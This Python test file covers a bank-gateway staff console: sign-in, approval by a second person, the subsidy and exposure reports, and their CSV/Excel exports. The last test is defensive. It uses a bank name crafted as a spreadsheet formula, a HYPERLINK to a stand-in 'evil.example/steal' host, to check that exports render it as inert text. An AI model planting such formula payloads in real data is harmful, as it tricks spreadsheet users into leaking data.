"""The console in process: staff sign-in, four eyes through the pages, the subsidy report."""

import csv
import io
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import timedelta
from decimal import Decimal
from urllib.parse import urlencode

import httpx
from openpyxl import load_workbook

from shared.clock import shanghai_today
from tests.bank_gateway.batches.test_opening import open_batch_with
from tests.bank_gateway.conftest import Desk
from tests.bank_gateway.ledger.test_events import APPROVED, DISBURSED, Bank, event
from tests.conftest import asgi_client, make_uscc


def csrf_of(page: httpx.Response) -> str:
    match = re.search(r'name="_csrf" value="([^"]+)"', page.text)
    assert match, "the page carries a form's CSRF token"
    return match.group(1)


@asynccontextmanager
async def signed_in(desk: Desk, username: str) -> AsyncIterator[httpx.AsyncClient]:
    """A browser of its own (its own cookies), signed in to the console as ``username``."""
    async with asgi_client(desk.app, "http://gateway") as browser:
        login = await browser.get("/console/login")
        form = {
            "_csrf": csrf_of(login),
            "username": username,
            "password": f"dev-password-{username}",
        }
        done = await browser.post(
            "/console/login",
            content=urlencode(form),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert done.status_code == 303, done.text
        yield browser


async def test_staff_sign_in_and_what_a_page_lets_each_do(desk: Desk) -> None:
    anonymous = await desk.gateway.get("/console/batches")
    assert anonymous.status_code == 303 and "/console/login" in anonymous.headers["location"]
    login = await desk.gateway.get("/console/login")
    wrong = await desk.gateway.post(
        "/console/login",
        content=urlencode({"_csrf": csrf_of(login), "username": "alice", "password": "nope"}),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert wrong.status_code == 401 and "用户名或密码不正确" in wrong.text

    async with signed_in(desk, "alice") as alice:
        inbox = await alice.get("/console/")
        assert inbox.status_code == 200 and "待办" in inbox.text
        assert "张丽（经办）" in inbox.text
        bank = await desk.register_bank()
        form = await alice.get("/console/batches/new")
        created = await alice.post(
            "/console/batches/new",
            content=urlencode(
                {
                    "_csrf": csrf_of(form),
                    "name": "控制台批次",
                    "bank_code": bank,
                    "quota": "1000000",
                    "valid_from": shanghai_today().isoformat(),
                    "valid_to": (shanghai_today() + timedelta(days=180)).isoformat(),
                    "policy_version_id": desk.policy_version_id,
                }
            ),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert created.status_code == 303, created.text
        batch_url = created.headers["location"].split("?")[0]
        page = await alice.get(batch_url)
        token = csrf_of(page)
        submitted = await alice.post(
            f"{batch_url}/submission",
            content=urlencode({"_csrf": token}),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert "done=" in submitted.headers["location"]
        # Approving one's own batch is refused by the service, shown on the page.
        refused = await alice.post(
            f"{batch_url}/approval",
            content=urlencode({"_csrf": token}),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert "error=" in refused.headers["location"]
        shown = await alice.get(refused.headers["location"])
        assert "审批" in shown.text and 'class="alert"' in shown.text

    async with signed_in(desk, "carol") as carol:
        page = await carol.get(batch_url)
        approved = await carol.post(
            f"{batch_url}/approval",
            content=urlencode({"_csrf": csrf_of(page)}),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert "done=" in approved.headers["location"]
        assert "已批准" in (await carol.get(approved.headers["location"])).text


async def test_the_subsidy_report_adds_fee_and_interest_subsidies(desk: Desk) -> None:
    code = await desk.register_bank()
    applications = await desk.eligible_applications(
        1, listed="specialized_new", enterprise__flags={"specialized_new": True}
    )
    applications += await desk.eligible_applications(1)
    await open_batch_with(desk, code, applications)
    await desk.deliver()
    bank = Bank(desk, code)
    await bank.sign_in()
    [opened] = desk.bank.of_type("batch.opened")[-1:]
    for loan in opened["data"]["loans"]:
        for kind, data in (
            ("loan.approved", APPROVED),
            ("loan.disbursed", DISBURSED),
            (
                "loan.repayment",
                {"principal": "100000.00", "interest": "6400.00", "paid_on": "2022-12-27"},
            ),
        ):
            response = await bank.send(event(kind, loan["loan_id"], **data))
            assert response.status_code == 200, response.text
    await desk.deliver()

    async with signed_in(desk, "carol") as carol:
        url = "/console/reports/subsidies?month_from=2022-11&month_to=2022-12"
        page = await carol.get(url)
        assert page.status_code == 200
        exported = await carol.get(url + "&format=csv")
        assert exported.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
        header, *lines = rows
        assert header == [
            "月份",
            "银行",
            "担保费",
            "担保费补贴",
            "还款笔数",
            "利息",
            "其中不贴息利息",
            "贴息",
            "补贴合计",
        ]
        mine = [line for line in lines if line[1] == f"测试银行{code}"]
        # Fee billed 2022-11-27 for the first loan year: 2,000,000 × 0.5 % × 365 / 360 =
        # 10,138.89 per loan, half subsidised (5,069.445 → 5,069.45 each).
        assert mine[0] == [
            "2022-11",
            f"测试银行{code}",
            "20277.78",
            "10138.90",
            "0",
            "0.00",
            "0.00",
            "0.00",
            "10138.90",
        ]
        # December: both loans repaid 6,400 interest; only the 专精特新 one has a 30 % 贴息.
        assert mine[1] == [
            "2022-12",
            f"测试银行{code}",
            "0.00",
            "0.00",
            "2",
            "12800.00",
            "0.00",
            "1920.00",
            "1920.00",
        ]
        assert "¥10,138.90" in page.text
        # The last line adds up every row, as the page's 合计 does.
        *body, total = lines
        assert total[:2] == ["合计", ""]
        assert Decimal(total[8]) == sum(Decimal(line[8]) for line in body)
        assert int(total[4]) == sum(int(line[4]) for line in body)

        workbook = await carol.get(url + "&format=xlsx")
        sheet = load_workbook(io.BytesIO(workbook.content)).active
        values = [[cell.value for cell in row] for row in sheet.iter_rows()]
        assert values[0][0] == "月份"
        assert values[-1][0] == "合计" and Decimal(str(values[-1][8])) == Decimal(total[8])
        december = next(v for v in values if v[0] == "2022-12" and v[1] == f"测试银行{code}")
        assert Decimal(str(december[7])) == Decimal("1920.00")
        reversed_months = await carol.get(
            "/console/reports/subsidies?month_from=2022-12&month_to=2022-01"
        )
        assert reversed_months.status_code == 400 and "结束月份不能早于开始月份" in (
            reversed_months.text
        )


async def test_the_exposure_pages_show_the_firm_across_its_guarantees(desk: Desk) -> None:
    firm = make_uscc()
    code = await desk.register_bank()
    await open_batch_with(desk, code, await desk.eligible_applications(2, uscc=firm))
    await desk.deliver()
    bank = Bank(desk, code)
    await bank.sign_in()
    [opened] = desk.bank.of_type("batch.opened")[-1:]
    first, second = (loan["loan_id"] for loan in opened["data"]["loans"])
    for loan_id in (first, second):
        await bank.send(event("loan.approved", loan_id, **APPROVED))
        await bank.send(event("loan.disbursed", loan_id, **DISBURSED))
    paid = {"principal": "300000.00", "interest": "6400.00", "paid_on": "2022-12-27"}
    await bank.send(event("loan.repayment", first, **paid))
    await desk.deliver()

    async with signed_in(desk, "carol") as carol:
        by_bank = await carol.get("/console/reports/exposure?group=bank")
        assert by_bank.status_code == 200
        cells = r'</td>\s*<td class="num">(\d+)</td>\s*<td class="num">([^<]+)<'
        row = re.search(f"测试银行{code}{cells}", by_bank.text)
        assert row and row.groups() == ("2", "¥3,700,000.00")
        by_firm = await carol.get("/console/reports/exposure")
        assert f'href="/console/reports/exposure/{firm}"' in by_firm.text
        page = await carol.get(f"/console/reports/exposure/{firm}")
        assert page.status_code == 200
        assert "上海青浦测试制造有限公司" in page.text and "¥3,700,000.00" in page.text
        assert "¥1,700,000.00" in page.text and "2022-12-27 还款后" in page.text
        assert (await carol.get("/console/reports/exposure/not-a-uscc")).status_code == 422


async def test_interest_subsidy_is_rounded_once_per_loan_and_month(desk: Desk) -> None:
    """Three repayments of 0.05 interest in one month at a 30 % share: 贴息 0.05 (0.15 ×
    30 % = 0.045), not three roundings of 0.015 (0.06)."""
    code = await desk.register_bank()
    [application] = await desk.eligible_applications(
        1, listed="specialized_new", enterprise__flags={"specialized_new": True}
    )
    await open_batch_with(desk, code, [application])
    await desk.deliver()
    bank = Bank(desk, code)
    await bank.sign_in()
    [loan] = desk.bank.of_type("batch.opened")[-1]["data"]["loans"]
    assert loan["terms"]["interest_subsidy_share"] == "0.3000"
    await bank.send(event("loan.approved", loan["loan_id"], **APPROVED))
    await bank.send(event("loan.disbursed", loan["loan_id"], **DISBURSED))
    for day in ("2022-12-05", "2022-12-15", "2022-12-25"):
        paid = {"principal": "0.00", "interest": "0.05", "paid_on": day}
        response = await bank.send(event("loan.repayment", loan["loan_id"], **paid))
        assert response.status_code == 200, response.text
    async with signed_in(desk, "carol") as carol:
        exported = await carol.get(
            "/console/reports/subsidies?month_from=2022-12&month_to=2022-12&format=csv"
        )
    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    [mine] = [line for line in lines if line[1] == f"测试银行{code}"]
    assert mine[4:8] == ["3", "0.15", "0.00", "0.05"]


async def test_exports_show_a_formula_named_bank_as_text(desk: Desk) -> None:
    """A bank named like a formula (CSV injection, OWASP): the CSV cell starts with an
    apostrophe, the Excel cell is text, never a live formula; amounts stay numbers."""
    evil = '=HYPERLINK("http://evil.example/steal","点此对账")'
    code = await desk.register_bank(name=evil)
    await open_batch_with(desk, code, await desk.eligible_applications(1))
    await desk.deliver()
    bank = Bank(desk, code)
    await bank.sign_in()
    [loan] = desk.bank.of_type("batch.opened")[-1]["data"]["loans"]
    for kind, data in (("loan.approved", APPROVED), ("loan.disbursed", DISBURSED)):
        assert (await bank.send(event(kind, loan["loan_id"], **data))).status_code == 200
    await desk.deliver()
    url = "/console/reports/subsidies?month_from=2022-11&month_to=2022-11"
    async with signed_in(desk, "carol") as carol:
        exported = await carol.get(url + "&format=csv")
        workbook = await carol.get(url + "&format=xlsx")
    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    [mine] = [line for line in lines if evil in line[1]]
    assert mine[1] == "'" + evil and mine[2] == "10138.89"
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    [row] = [r for r in sheet.iter_rows() if evil in str(r[1].value)]
    assert (row[1].data_type, row[1].value) == ("s", "'" + evil)
    assert row[2].data_type == "n"
